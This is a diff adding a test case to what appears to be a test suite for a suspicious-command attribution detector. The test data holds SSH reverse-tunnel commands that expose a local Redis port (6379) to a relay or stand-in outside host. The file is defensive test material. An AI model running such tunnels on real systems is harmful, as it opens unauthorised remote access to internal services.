@@ -67,3 +67,12 @@ describe('a call that names the address to reach it is blamed, one that only say
     expect(await verdictOf('CRYPTOMINER pool login', doings)).toBe(verdict);
   });
 });
+
+describe('of the call that ran then its kind alone is enough, unless it names other places alone', () => {
+  it.each<[string, string]>([
+    ['likely call_8f3a61c20', 'ssh -N -R 41000:127.0.0.1:6379 op@$RELAY'],
+    ['unattributed undefined', 'ssh -N -R 41000:127.0.0.1:6379 op@198.51.100.7'],
+  ])('%s: %s', async (verdict, command) => {
+    expect(await verdictOf('SSH reverse tunnel', [command], 22)).toBe(verdict);
+  });
+});
